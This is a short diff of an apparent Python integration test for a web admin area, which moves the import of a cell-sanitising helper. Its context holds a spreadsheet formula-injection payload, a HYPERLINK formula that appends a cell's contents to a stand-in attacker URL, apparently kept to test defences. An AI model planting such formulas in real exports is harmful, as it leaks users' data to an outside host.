@@ -21,7 +21,7 @@ from tests.integration.web.admin.conftest import EVIL, Office
 from tests.support.forms import hidden_fields
 from tests.support.shop import add_outsider
 from tests.support.web import browser
-from web.admin.audit_log import calm_cell
+from web.kit.cells import calm_cell
 
 FORMULA = '=HYPERLINK("http://evil.example?"&A1)'
 
